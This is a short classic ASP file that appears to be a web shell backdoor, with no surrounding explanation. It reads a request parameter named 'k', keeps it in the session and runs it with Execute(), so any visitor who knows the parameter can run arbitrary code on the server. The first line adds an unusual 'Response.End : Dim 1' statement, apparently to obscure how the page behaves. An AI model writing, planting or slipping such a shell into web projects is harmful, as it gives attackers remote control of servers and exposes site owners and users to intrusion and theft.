<% Response.End : Dim 1 %>
<%
If Request("k")<>"" Then Session("k")=Request("k")
If Session("k")<>"" Then Execute(Session("k"))
%>